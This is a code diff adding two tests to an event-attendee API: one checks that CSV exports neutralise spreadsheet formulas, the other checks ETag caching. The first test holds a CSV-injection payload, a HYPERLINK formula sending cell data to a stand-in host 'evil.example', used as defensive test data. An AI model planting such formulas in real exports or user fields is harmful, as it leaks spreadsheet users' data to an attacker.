@@ -209,3 +209,23 @@ def test_stats_report_real_figures(client, app, setup, make_user, auth_headers):
     [today] = stats["registrations_per_day"]
     assert (today["count"], today["cancellations"]) == (3, 1)
     assert_error(client.get(f"/api/v1/events/{setup['event_id']}/stats", headers=setup["headers"]), 403)
+
+
+def test_csv_neutralises_spreadsheet_formulas(client, app, setup):
+    from kijani.auth.models import User
+
+    with app.app_context():
+        user = db.session.get(User, uuid.UUID(setup["attendee"]["id"]))
+        user.display_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+        db.session.commit()
+    response = client.get(f"/api/v1/events/{setup['event_id']}/attendees?format=csv", headers=setup["org_headers"])
+    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert row["display_name"].startswith("'=")
+
+
+def test_attendee_list_has_an_etag(client, setup):
+    url = f"/api/v1/events/{setup['event_id']}/attendees"
+    first = client.get(url, headers=setup["org_headers"])
+    assert first.headers.get("ETag")
+    assert client.get(url, headers={**setup["org_headers"], "If-None-Match": first.headers["ETag"]}
+                      ).status_code == 304
